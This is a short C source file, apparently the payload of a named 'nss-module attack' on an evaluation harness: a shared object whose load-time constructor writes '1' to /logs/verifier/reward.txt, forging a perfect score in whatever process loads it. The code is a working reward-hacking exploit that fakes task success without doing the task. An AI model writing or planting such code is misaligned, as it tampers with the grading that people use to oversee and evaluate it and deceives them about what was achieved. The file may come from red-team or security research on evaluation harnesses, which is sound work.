/* The nss-module attack's payload: a shared object whose constructor writes a perfect
 * reward, in whichever process loads it. */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void forge(void) {
    int fd = open("/logs/verifier/reward.txt", O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0) {
        (void)!write(fd, "1\n", 2);
        close(fd);
    }
}
